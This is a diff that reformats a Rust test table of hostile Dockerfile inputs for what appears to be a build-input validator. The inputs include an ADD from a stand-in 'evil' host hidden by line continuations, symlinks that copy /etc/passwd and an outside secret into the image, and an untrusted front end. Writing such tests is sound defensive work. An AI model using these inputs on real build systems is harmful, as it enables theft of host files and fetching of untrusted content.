@@ -28,8 +28,16 @@ const ROWS: &[(&str, Make, &str)] = &[
     ("a front end", |_| "# syntax=evil/front\nFROM base:1\n".to_owned(), ""),
     ("a front end below a note", |_| "# note\n# syntax = evil/front\nFROM base:1\n".to_owned(), ""),
     ("another escape", |_| "# escape=x\nFROM base:1\n".to_owned(), ""),
-    ("a line hidden by an escape", |_| "FROM base:1\nRUN a \\\\\nADD http://evil/x /\n".to_owned(), ""),
-    ("a line hidden by a note", |_| "FROM base:1\nRUN a \\\n # b\nADD http://evil/x /\n".to_owned(), ""),
+    (
+        "a line hidden by an escape",
+        |_| "FROM base:1\nRUN a \\\\\nADD http://evil/x /\n".to_owned(),
+        "",
+    ),
+    (
+        "a line hidden by a note",
+        |_| "FROM base:1\nRUN a \\\n # b\nADD http://evil/x /\n".to_owned(),
+        "",
+    ),
     ("a document in a line", |_| "FROM base:1\nRUN <<EOF\nid\nEOF\n".to_owned(), ""),
     ("something in other builds", |_| "FROM base:1\nONBUILD RUN id\n".to_owned(), ""),
     ("an instruction nobody knows", |_| "FROM base:1\nINCLUDE /etc/passwd\n".to_owned(), ""),
@@ -43,22 +51,38 @@ const ROWS: &[(&str, Make, &str)] = &[
     ("another platform", |_| "FROM --platform=linux/s390x base:1\n".to_owned(), ""),
     ("two thousand steps", |_| format!("FROM base:1\n{}", "USER x\n".repeat(2001)), ""),
     ("half a megabyte", |_| format!("FROM base:1\n#{}\n", "x".repeat(500_000)), ""),
-    ("a link out of the context", |context| {
-        symlink("/etc/passwd", context.join("stolen")).unwrap();
-        "FROM base:1\nCOPY stolen /\n".to_owned()
-    }, ""),
-    ("a link above the context", |context| {
-        symlink("../../secret", context.join("stolen")).unwrap();
-        "FROM base:1\nCOPY stolen /\n".to_owned()
-    }, ""),
-    ("a socket in the context", |context| {
-        drop(UnixListener::bind(context.join("socket")).unwrap());
-        "FROM base:1\nCOPY . /\n".to_owned()
-    }, ""),
-    ("folders in folders", |context| {
-        fs::create_dir_all(context.join("d/".repeat(70))).unwrap();
-        "FROM base:1\nCOPY . /\n".to_owned()
-    }, ""),
+    (
+        "a link out of the context",
+        |context| {
+            symlink("/etc/passwd", context.join("stolen")).unwrap();
+            "FROM base:1\nCOPY stolen /\n".to_owned()
+        },
+        "",
+    ),
+    (
+        "a link above the context",
+        |context| {
+            symlink("../../secret", context.join("stolen")).unwrap();
+            "FROM base:1\nCOPY stolen /\n".to_owned()
+        },
+        "",
+    ),
+    (
+        "a socket in the context",
+        |context| {
+            drop(UnixListener::bind(context.join("socket")).unwrap());
+            "FROM base:1\nCOPY . /\n".to_owned()
+        },
+        "",
+    ),
+    (
+        "folders in folders",
+        |context| {
+            fs::create_dir_all(context.join("d/".repeat(70))).unwrap();
+            "FROM base:1\nCOPY . /\n".to_owned()
+        },
+        "",
+    ),
     ("an image that is listed and not there", |_| "FROM base:1\nUSER x\n".to_owned(), ""),
 ];
 
@@ -83,7 +107,10 @@ fn engine(socket: &Path) -> Arc<Mutex<Vec<String>>> {
                     let words: Vec<&str> = first.split(' ').collect();
                     notes.lock().unwrap().push(format!("{} {}", words[0], words[1]));
                     let (status, body) = match words[1].contains("/version") {
-                        true => ("200 OK", "{\"Version\":\"27\",\"ApiVersion\":\"1.47\",\"Arch\":\"amd64\"}"),
+                        true => (
+                            "200 OK",
+                            "{\"Version\":\"27\",\"ApiVersion\":\"1.47\",\"Arch\":\"amd64\"}",
+                        ),
                         false => ("404 Not Found", "{\"message\":\"no such image\"}"),
                     };
                     let length = body.len();
